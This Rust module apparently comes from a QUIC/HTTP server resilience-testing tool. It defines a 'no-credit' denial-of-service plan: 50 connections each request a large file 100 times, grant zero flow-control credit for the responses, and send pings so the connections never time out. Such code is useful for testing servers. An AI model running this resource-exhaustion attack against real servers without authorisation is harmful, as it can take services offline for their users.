//! Requests for large files whose responses are not read.

use courser_wire::TransportParameters;

use crate::attack::{LARGE, Plan, Victim};
use crate::hooks::Hooks;
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "no-credit",
    labels: &["A24", "A88"],
    summary: "100 requests for a large file on each of 50 connections without flow control credit",
    victim: Victim::Server,
    make: || Box::new(no_credit()),
};

fn no_credit() -> Crowd {
    Crowd::of_clients(50, |connection, progress, _| {
        for id in progress.requests(connection, 100 - progress.streams.min(100)) {
            let request = http::request(Method::Get, LARGE);
            connection.push_bytes(http::stream(id, 0, &request, true));
        }
        // Prevents the idle timeout.
        connection.push(&courser_wire::Frame::Ping);
    })
    .with_hooks(|| Box::new(NoCredit))
    .with_pause(std::time::Duration::from_millis(500))
}

/// Grants no flow control credit for responses.
pub(super) struct NoCredit;

impl Hooks for NoCredit {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        parameters.initial_max_data = 0;
        parameters.initial_max_stream_data_bidi_local = 0;
    }
}
